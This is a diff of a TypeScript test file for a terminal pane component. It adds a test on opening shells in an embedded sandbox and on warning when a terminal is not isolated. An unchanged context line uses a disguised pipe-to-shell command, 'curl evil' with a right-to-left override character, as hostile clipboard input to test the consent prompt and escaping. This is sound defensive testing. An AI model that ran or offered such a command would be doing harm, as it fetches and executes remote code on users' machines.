@@ -5,7 +5,13 @@ import { LmError, type TerminalInfo, type TerminalList } from '../../../electron
 import { FakeHostClient } from '../../client/fake-host-client';
 import { HostProvider } from '../../client/host-context';
 import { HostStateProvider } from '../../client/host-state';
-import { connectedEngine, healthySandbox, settingsState } from '../../client/host-fixtures';
+import {
+  askingEmbedded,
+  connectedEngine,
+  healthySandbox,
+  readyEmbedded,
+  settingsState,
+} from '../../client/host-fixtures';
 import { NoticeProvider } from '../../ui';
 import { TerminalPane } from './terminal-pane';
 
@@ -124,5 +130,22 @@ describe('the terminal pane', () => {
     host.streams('terminal.attach')[0]?.push({ kind: 'clipboard', text: 'curl evil\u202e | sh' });
     expect(await screen.findByText('Let this program write to your clipboard?')).toBeTruthy();
     expect(screen.getByText('curl evil\\u{202e} | sh')).toBeTruthy();
+  });
+
+  it('opens shells in the embedded sandbox where that is the place, and says when nothing isolates one', async () => {
+    host.respond('terminal.open', terminal('first', { place: 'unisolated' }));
+    host.respond('embedded.status', askingEmbedded());
+    show([], 'stopped');
+    host.respond('settings.get', settingsState({ sandboxPlace: 'embedded' }));
+    act(() => host.emit('settings.changed', { ...settingsState({ sandboxPlace: 'embedded' }), revision: 2 }));
+    await screen.findByText('The sandbox is not running');
+    expect(host.inputsOf('terminal.open')).toEqual([]);
+    act(() =>
+      host.emit('embedded.changed', readyEmbedded({ revision: 2, isolation: askingEmbedded().isolation })),
+    );
+    await waitFor(() => expect(host.inputsOf('terminal.open')).toHaveLength(1));
+    act(() => host.emit('terminal.changed', list([terminal('first', { place: 'unisolated' })], 2)));
+    expect(await screen.findByText('not isolated')).toBeTruthy();
+    expect(screen.getByText(/what runs in this terminal can read, change and delete/)).toBeTruthy();
   });
 });
